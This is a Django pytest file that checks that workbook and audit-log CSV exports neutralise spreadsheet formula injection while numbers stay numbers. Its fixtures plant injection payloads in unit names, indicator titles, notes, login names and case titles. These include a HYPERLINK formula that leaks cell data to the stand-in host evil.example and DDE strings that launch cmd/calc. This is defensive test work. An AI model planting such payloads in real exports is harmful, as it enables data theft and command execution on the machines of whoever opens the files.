"""No export runs a formula: text a spreadsheet would run (= + - @, tab, CR) is written inert, in every
workbook and in the audit log's CSV, while numbers stay numbers (issue 23, "Exports run formulas")."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from assessment.models import ImportSession, Indicator, Note, Unit
from bulletins.models import Issue
from bulletins.services import publish_issue
from core import access
from core.audit import record
from core.audit.actions import AuditAction
from core.cells_safe import FORMULA_STARTS, inert
from core.excel import Sheet, write_workbook

from .conftest import log_in
from .factories import CaseFactory, UserFactory

UNIT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
INDICATOR_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE_TEXT = "+1+cmd|' /C calc'!A0"
LOGIN_NAME = "=cmd|' /C calc'!A0"
CASE_TITLE = "-2+3+cmd|' /C calc'!A0"
DETAIL = "\t=1+1"

WORKBOOKS = [
    # (url, planted text the workbook must hold, made inert)
    ("/bulletins/2019/11/progress.xlsx", [UNIT_NAME, INDICATOR_TITLE]),
    ("/assessment/2019/progress.xlsx", [UNIT_NAME, INDICATOR_TITLE]),
    ("/assessment/2019/schemes.xlsx", [INDICATOR_TITLE, NOTE_TEXT]),
    ("/assessment/units.xlsx", [UNIT_NAME]),
    ("/assessment/2019/scores/ranking.xlsx", [UNIT_NAME, INDICATOR_TITLE]),
    ("/cases/2019/quarterly.xlsx", [UNIT_NAME]),
]
AUDIT_PLANTED = [LOGIN_NAME, CASE_TITLE, DETAIL]


@pytest.fixture
def planted(db, client):
    """Formulas typed where each kind of user can type: the office's unit, indicator and note, a case's
    title, and a login name typed at the login page by an anonymous visitor; then the issue republished."""
    unit = Unit.objects.get(name="发改委")
    unit.name = UNIT_NAME
    unit.save()
    indicator = Indicator.objects.filter(scheme__year=2019, scheme__units=unit).order_by("order").first()
    indicator.title = INDICATOR_TITLE
    indicator.save()
    note = Note.objects.filter(scheme__year=2019).first()
    note.text = NOTE_TEXT
    note.save()
    publish_issue(Issue.objects.get(year=2019, number=11), None, reason="更新", keep_tables=False)
    client.post("/accounts/login/", {"username": LOGIN_NAME, "password": "wrong-Password-1"})
    case = CaseFactory(title=CASE_TITLE)
    record(AuditAction.LOGIN, actor="someone", obj=("案例", case.pk, case.title), detail=DETAIL)


def _runs(value):
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def _cells(body):
    workbook = load_workbook(io.BytesIO(body))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(("url", "texts"), WORKBOOKS, ids=[url for url, _ in WORKBOOKS])
def test_no_workbook_holds_a_formula_and_the_planted_text_reads_as_text(planted, client, staff_user, url, texts):
    log_in(client, staff_user)
    cells = _cells(_body(client.get(url)))
    assert not [c.coordinate for c in cells if c.data_type == "f" or _runs(c.value)]
    values = {c.value for c in cells}
    for text in texts:
        assert "'" + text in values or any(isinstance(v, str) and "'" + text in v for v in values), text
    assert any(c.data_type == "n" and c.value is not None for c in cells), "numbers stay numbers"


@pytest.fixture
def auditor_client(client):
    user = UserFactory(username="t_auditor")
    user.groups.add(Group.objects.get(name=access.AUDITOR_GROUP))
    return log_in(client, user)


def test_the_audit_logs_workbook_holds_no_formula(planted, auditor_client):
    cells = _cells(_body(auditor_client.get("/audit/export.xlsx")))
    assert not [c.coordinate for c in cells if c.data_type == "f" or _runs(c.value)]
    values = {c.value for c in cells}
    assert {"'" + text for text in AUDIT_PLANTED} <= values


def test_the_audit_logs_csv_holds_no_formula(planted, auditor_client):
    rows = list(csv.reader(io.StringIO(_body(auditor_client.get("/audit/export.csv")).decode("utf-8-sig"))))
    assert not [field for row in rows for field in row if _runs(field)]
    assert {"'" + text for text in AUDIT_PLANTED} <= {field for row in rows for field in row}


def test_numbers_stay_numbers_and_harmless_text_is_unchanged():
    sheet = Sheet(name="表", title="=标题", header=["单位", "+数"], rows=[["-单位", -3, -2.5, "√", "", None]])
    cells = _cells(write_workbook([sheet]).read())
    values = [c.value for c in cells]
    assert "'=标题" in values and "'+数" in values and "'-单位" in values
    numbers = [c for c in cells if c.value in (-3, -2.5)]
    assert [c.data_type for c in numbers] == ["n", "n"]
    assert "√" in values
    assert [inert(v) for v in ("@x", "\tx", "\rx", "x=1", "—", 0, -1.5, None)] == [
        "'@x",
        "'\tx",
        "'\rx",
        "x=1",
        "—",
        0,
        -1.5,
        None,
    ]


def test_a_workbook_imported_back_reads_as_it_was_written(planted, client, staff_user):
    """The apostrophe is the export's: the units workbook imported back changes no name."""
    log_in(client, staff_user)
    body = _body(client.get("/assessment/units.xlsx"))
    response = client.post("/assessment/import/units/", {"file": SimpleUploadedFile("单位.xlsx", body)})
    assert response.status_code == 302
    session = ImportSession.objects.get(token=response["Location"].rstrip("/").split("/")[-1])
    assert session.errors == [] and session.changes == []
